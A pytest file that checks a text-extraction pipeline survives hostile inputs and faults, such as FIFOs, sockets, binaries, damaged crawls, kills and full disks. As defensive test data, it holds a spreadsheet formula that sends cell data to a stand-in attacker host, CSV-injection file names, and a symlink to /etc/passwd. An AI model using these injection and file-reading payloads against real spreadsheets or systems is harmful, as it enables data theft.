"""Hostile inputs and faults (issue 14): every case gets a row, none costs the run.

The files are made by the tests. The whole-run tests start the real command in a
subprocess, as a user would, so FIFOs, signals and file size limits act on a real process.
"""
from __future__ import annotations

import io
import os
import re
import resource
import shutil
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from extractor.clean import clean_text
from extractor.config import Config
from extractor.extract.quantities.quantities import find_quantities
from extractor.ingest import RawPage, iter_pages
from extractor.langid import identify
from extractor.outputs import read_table
from extractor.pipeline import process_page, run

from conftest import CORPUS, ROOT

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"IPU-POD16 trained ResNet-50 in 28.3 minutes")'
CLAIM = "The IPU-POD16 trained ResNet-50 in 28.3 minutes.\n"


def hostile_corpus(corpus: Path) -> set[str]:
    """Every case of the issue beside the sample pages; returns the doc_ids expected."""
    shutil.copytree(CORPUS, corpus)
    expected = set(os.listdir(CORPUS))

    def page(name: str, data: bytes) -> None:
        (corpus / name).write_bytes(data)
        expected.add(name)

    (corpus / os.fsdecode(b"caf\xe9.txt")).write_bytes(CLAIM.encode())
    expected.add("caf\\xe9.txt")
    page("n" * 249 + ".txt", CLAIM.encode())             # 253 characters: clean/<name>.txt too long
    page("x", CLAIM.encode())                             # clean/x.txt beside the folder x.txt/
    (corpus / "x.txt").mkdir()
    page("x.txt/inner.txt", CLAIM.encode())
    os.mkfifo(corpus / "fifo.txt")
    expected.add("fifo.txt")
    with open(corpus / "huge.txt", "wb") as f:            # over the size limit (sparse: no disk)
        f.truncate(60_000_000)
    expected.add("huge.txt")
    page("lossy.txt", "Ab\ufffd. ".encode() * 20_000)
    page("digits.txt", b"1" * 100_000)
    page("markers.txt", b"\x82\xf3\xb0\x80\x82")
    page("random.bin.txt", bytes((i * 7919 + 13) % 256 for i in range(20_000)))
    page("elf", b"\x7fELF\x02\x01\x01" + bytes(200))
    page("formula.txt", f"{FORMULA}\n-2+3 said the IPU-POD16 trained ResNet-50 in 28.3 minutes.\n"
         .encode())
    page("=cmd.txt", CLAIM.encode())
    page("@sum.txt", CLAIM.encode())
    os.symlink("/etc/passwd", corpus / "passwd.txt")
    expected.add("passwd.txt")
    # a crawl that breaks off inside its second page: its first page and an error row
    crawl = io.BytesIO()
    writer = WARCWriter(crawl, gzip=True)
    for i in range(2):
        http = StatusAndHeaders("200 OK", [("Content-Type", "text/plain")], protocol="HTTP/1.1")
        writer.write_record(writer.create_warc_record(
            f"https://example.com/{i}", "response", payload=io.BytesIO(CLAIM.encode() * 20),
            http_headers=http, warc_headers_dict={"WARC-Record-ID": f"<urn:uuid:page-{i}>"}))
    page("crawl.warc.gz", crawl.getvalue()[:-60])
    expected.add("crawl.warc.gz#urn:uuid:page-0")
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(corpus / "sock.txt"))
    sock.close()
    expected.add("sock.txt")
    return expected


def run_cli(*args, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "extractor", *map(str, args)], cwd=ROOT,
                          capture_output=True, text=True, timeout=600, **kwargs)


def test_a_hostile_corpus_runs_to_the_end_with_a_row_per_input(tmp_path, seed_run):
    corpus = tmp_path / "corpus"
    expected = hostile_corpus(corpus)
    out = corpus / "outputs"  # inside the corpus: never read back as pages
    (corpus / "outputs").mkdir()
    (corpus / "outputs" / "claims.csv").write_text("doc_id\n")
    done = run_cli("run", corpus, "--out", out, "-q")
    assert done.returncode == 0, done.stderr
    docs = read_table(out / "documents.csv").set_index("doc_id")
    assert set(docs.index) == expected
    error = docs["error"]
    assert error["fifo.txt"] == "not a regular file: a FIFO"
    assert error["sock.txt"] == "not a regular file: a socket"
    assert error["passwd.txt"].startswith("link leaves the corpus folder")
    assert error["huge.txt"].startswith("file too large") and docs.loc["huge.txt", "bytes"] == 60_000_000
    assert error["random.bin.txt"].startswith("binary (")
    assert error["elf"] == "binary (ELF executable)"
    assert error["crawl.warc.gz"].startswith("damaged WARC file: unreadable after 1 records")
    assert docs.loc["crawl.warc.gz#urn:uuid:page-0", "status"] == "ok"
    for doc_id in ("caf\\xe9.txt", "n" * 249 + ".txt", "x", "x.txt/inner.txt", "lossy.txt",
                   "digits.txt", "markers.txt", "formula.txt", "=cmd.txt", "@sum.txt"):
        assert docs.loc[doc_id, "status"] == "ok", (doc_id, error[doc_id])
        text = (out / docs.loc[doc_id, "clean_path"]).read_text(encoding="utf-8")
        if doc_id not in ("lossy.txt", "digits.txt", "markers.txt", "formula.txt"):
            assert text.strip() == CLAIM.strip()
    assert docs.loc["x", "clean_path"] == "clean/x.txt"
    assert docs.loc["x.txt/inner.txt", "clean_path"].startswith("clean/_renamed/")
    assert not (out / "clean" / "passwd.txt.txt").exists()
    clean_paths = docs["clean_path"][docs["clean_path"] != ""]
    assert clean_paths.is_unique
    # the sample pages' claims are those of a run over the sample corpus alone
    claims = read_table(out / "claims.csv")
    seeds = read_table(seed_run / "claims.csv")
    mine = claims[claims["doc_id"].isin(set(os.listdir(CORPUS)))].reset_index(drop=True)
    columns = ["doc_id", "start", "end", "surface", "value", "unit", "metric", "system", "workload"]
    pd.testing.assert_frame_equal(mine[columns], seeds[columns])
    # no formula cell: only plain numbers may start with a sign
    for name in ("documents.csv", "claims.csv", "consistency.csv"):
        for line in pd.read_csv(out / name, dtype=str, keep_default_na=False).itertuples(index=False):
            for cell in line:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    float(cell.rstrip("%").replace(",", ""))  # a plain number, or this raises
    assert (claims["doc_id"] == "=cmd.txt").any()  # raw again when read back
    raw = pd.read_parquet(out / "documents.parquet")
    assert "=cmd.txt" in set(raw["doc_id"])


def test_unreadable_folder_gets_a_row(tmp_path):
    # root reads every folder, so the walk is made as an ordinary user when we are root
    base = Path("/tmp") / f"extractor-unreadable-{os.getpid()}"
    shutil.rmtree(base, ignore_errors=True)
    (base / "locked").mkdir(parents=True)
    (base / "ok.txt").write_text("fine")
    (base / "locked" / "a.txt").write_text("hidden from us")
    os.chmod(base / "locked", 0)
    try:
        read, write = os.pipe()
        pid = os.fork()  # the child walks as nobody when we are root; no exec needed
        if pid == 0:
            try:
                os.close(read)
                if os.geteuid() == 0:
                    os.setuid(65534)
                found = [(p.doc_id, p.error) for p in iter_pages(base)]
                os.write(write, repr(found).encode())
            finally:
                os._exit(0)
        os.close(write)
        with os.fdopen(read) as f:
            out = f.read()
        os.waitpid(pid, 0)
    finally:
        os.chmod(base / "locked", 0o755)
        shutil.rmtree(base)
    assert eval(out) == [("locked/", "cannot read folder: Permission denied"), ("ok.txt", "")]


def test_links_out_of_the_corpus_are_followed_only_when_asked(tmp_path):
    corpus = tmp_path / "c"
    corpus.mkdir()
    (tmp_path / "outside.txt").write_text(CLAIM)
    os.symlink(tmp_path / "outside.txt", corpus / "out.txt")
    os.symlink("/dev/zero", corpus / "zero.txt")
    pages = {p.doc_id: p for p in iter_pages(corpus)}
    assert pages["out.txt"].error.startswith("link leaves") and pages["out.txt"].data == b""
    pages = {p.doc_id: p for p in iter_pages(corpus, follow_links=True)}
    assert pages["out.txt"].data == CLAIM.encode()
    assert pages["zero.txt"].error == "not a regular file: a character device"


def test_a_page_over_its_time_budget_gets_an_error_row():
    config = Config(page_time_budget=0.05)
    result = process_page(RawPage("slow.txt", ("IPU-POD16 took 28.3 minutes. " * 20_000).encode()),
                          config)
    assert result.document.status == "error"
    assert "PageTimeout: over the time budget of 0.05 s" in result.document.error
    assert result.claims == []


def test_empty_and_utf16_pages_are_text_not_binary():
    assert process_page(RawPage("e.txt", b""), Config()).document.status == "ok"
    result = process_page(RawPage("u.txt", CLAIM.encode("utf-16")), Config())
    assert result.document.status == "ok" and result.document.error == ""


# ---- runs that survive: kill -9, SIGTERM, resume, lock, disk full -------------------------

def small_corpus(corpus: Path, n: int = 30) -> None:
    shutil.copytree(CORPUS, corpus)
    pages = sorted(CORPUS.iterdir())
    for i in range(n):
        data = pages[i % len(pages)].read_bytes()
        (corpus / f"copy_{i:03d}.txt").write_bytes(data + f"\nCopy {i}.\n".encode())


def tables(out: Path) -> dict[str, bytes | None]:
    """The outputs' bytes; report.html None while the run that committed the tables
    builds it (tables first, views after)."""
    names = ["documents.csv", "claims.csv", "consistency.csv"]
    found = {name: (out / name).read_bytes() for name in names}
    found["report.html"] = (out / "report.html").read_bytes() \
        if (out / "report.html").exists() else None
    for path in sorted((out / "clean").rglob("*.txt")):
        found[str(path.relative_to(out))] = path.read_bytes()
    return found


def journal_lines(out: Path) -> int:
    for staging in out.parent.glob(f".{out.name}.partial-*"):
        try:
            return (staging / ".pages.jsonl").read_bytes().count(b"\n")
        except OSError:
            pass
    return 0


def start_run(corpus: Path, out: Path, *args) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-m", "extractor", "run", str(corpus), "--out", str(out),
                             "-q", *args], cwd=ROOT, stderr=subprocess.PIPE, text=True)


def wait_for_pages(proc: subprocess.Popen, out: Path, n: int) -> None:
    deadline = time.monotonic() + 120
    while journal_lines(out) < n and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.02)


@pytest.fixture(scope="module")
def killable(tmp_path_factory):
    """A corpus, and the tables of an uninterrupted run over it."""
    base = tmp_path_factory.mktemp("kill")
    small_corpus(base / "corpus")
    run(Config(corpus=base / "corpus", out=base / "whole"))  # what the command runs
    return base / "corpus", tables(base / "whole")


def previous_outputs(tmp_path: Path) -> dict[str, bytes]:
    """An earlier run's outputs in tmp_path/out, over one sample page."""
    (tmp_path / "old").mkdir()
    first = sorted(CORPUS.iterdir())[0]
    shutil.copy(first, tmp_path / "old" / first.name)
    run(Config(corpus=tmp_path / "old", out=tmp_path / "out"))
    return tables(tmp_path / "out")


@pytest.mark.parametrize("signum,pages_first", [(signal.SIGKILL, 12), (signal.SIGTERM, 5)])
def test_a_killed_run_leaves_the_previous_outputs_whole_and_resume_finishes_it(
        tmp_path, killable, signum, pages_first):
    corpus, whole = killable
    out = tmp_path / "out"
    previous = previous_outputs(tmp_path)
    proc = start_run(corpus, out)
    wait_for_pages(proc, out, pages_first)
    proc.send_signal(signum)
    proc.wait(timeout=120)
    assert proc.returncode in (-signal.SIGKILL, 130), proc.stderr.read()
    assert tables(out) == previous  # still the previous run's outputs, whole
    kept = journal_lines(out)
    assert kept >= pages_first
    if signum == signal.SIGTERM:
        assert "--resume" in proc.stderr.read()
    done = run_cli("-v", "run", corpus, "--out", out, "-q", "--resume")
    assert done.returncode == 0, done.stderr
    assert tables(out) == whole
    reused = re.search(r"(\d+) pages reused", done.stderr)
    assert reused and int(reused.group(1)) >= kept  # (the old run's seed pages count too)
    assert not list(tmp_path.glob(".out.partial-*"))  # the dead run's staging is gone


def test_kill_at_any_moment_never_shows_a_mix(tmp_path, killable):
    corpus, whole = killable
    out = tmp_path / "out"
    previous = previous_outputs(tmp_path)
    for delay in (1.0, 4.0, 7.0):
        proc = start_run(corpus, out, "--resume")
        time.sleep(delay)
        proc.kill()
        proc.wait()
        assert tables(out) in (previous, whole, {**whole, "report.html": None}), delay
    assert run_cli("run", corpus, "--out", out, "-q", "--resume").returncode == 0
    assert tables(out) == whole


def test_a_second_run_on_the_same_folder_is_refused(tmp_path):
    from extractor.runfolder import RunLock

    lock = RunLock(tmp_path / "out")
    lock.acquire()
    try:
        done = run_cli("run", CORPUS, "--out", tmp_path / "out", "-q")
    finally:
        lock.release()
    assert done.returncode == 2
    assert done.stderr.strip().endswith("is writing to " + str(tmp_path / "out") +
                                        "; wait for it to finish or choose another --out")
    assert len(done.stderr.strip().splitlines()) == 1


def test_stale_staging_of_a_dead_run_is_removed(tmp_path):
    stale = tmp_path / ".out.partial-999999"
    (stale / "clean").mkdir(parents=True)
    (stale / "claims.csv").write_bytes(b"x" * 1000)
    run(Config(corpus=CORPUS, out=tmp_path / "out"))
    assert not stale.exists()


# 16 KB: the write that fails is the flush of a buffered table or journal as the writer
# closes its files (issue 25 item 5: it was a 42-line traceback and the staging folder
# stayed on the full disk)
@pytest.mark.parametrize("limit", [16_384, 20_000])
def test_a_full_disk_fails_in_one_line_and_keeps_the_previous_outputs(tmp_path, limit):
    out = tmp_path / "out"
    previous = previous_outputs(tmp_path)

    def small_files():  # every write past the limit fails with EFBIG, as on a full disk
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    done = run_cli("run", CORPUS, "--out", out, "-q", preexec_fn=small_files)
    assert done.returncode == 1, done.stderr
    assert done.stderr.startswith("extractor: error: cannot write the outputs: File too large")
    assert len(done.stderr.strip().splitlines()) == 1
    assert tables(out) == previous
    assert not list(tmp_path.glob(".out.*"))  # no staging folder, no lock file


def test_resume_redoes_only_pages_whose_bytes_changed(tmp_path):
    corpus = tmp_path / "c"
    small_corpus(corpus, n=2)
    out = tmp_path / "out"
    assert run(Config(corpus=corpus, out=out)).n_pages == 7
    first = tables(out)
    (corpus / "copy_000.txt").write_bytes(CLAIM.encode())
    calls = []
    import extractor.pipeline as pipeline

    original = pipeline.process_page

    def counting(raw, config):
        calls.append(raw.doc_id)
        return original(raw, config)

    pipeline.process_page = counting
    try:
        run(Config(corpus=corpus, out=out, resume=True))
    finally:
        pipeline.process_page = original
    assert calls == ["copy_000.txt"]
    again = tables(out)
    assert again["clean/copy_000.txt.txt"] == CLAIM.strip().encode()
    assert {k: v for k, v in again.items() if "copy_000" not in k and k.startswith("clean")} == \
        {k: v for k, v in first.items() if "copy_000" not in k and k.startswith("clean")}


# ---- arbitrary input: no stage may raise or hang -------------------------------------------

SETTINGS = settings(max_examples=40, deadline=None,
                    suppress_health_check=[HealthCheck.too_slow])


@SETTINGS
@given(st.binary(max_size=3000))
def test_process_page_takes_any_bytes(data):
    result = process_page(RawPage("fuzz.txt", data), Config())
    assert result.document.bytes == len(data)
    assert result.document.status == "ok" or result.document.error.startswith("binary (")


@SETTINGS
@given(st.text(max_size=2000))
def test_clean_takes_any_text(text):
    page = clean_text(text)
    assert all(0 <= s.start <= s.end <= len(page.text) for s in page.lossy_spans)


@SETTINGS
@given(st.text(max_size=500))
def test_langid_takes_any_text(text):
    result = identify(text)
    assert 0.0 <= result.confidence <= 1.0


@SETTINGS
@given(st.text(max_size=500), st.sampled_from(["en", "ko", "zh"]))
def test_quantities_take_any_text(text, lang):
    for q in find_quantities(text, lang):
        assert text[q.start:q.end] == q.surface
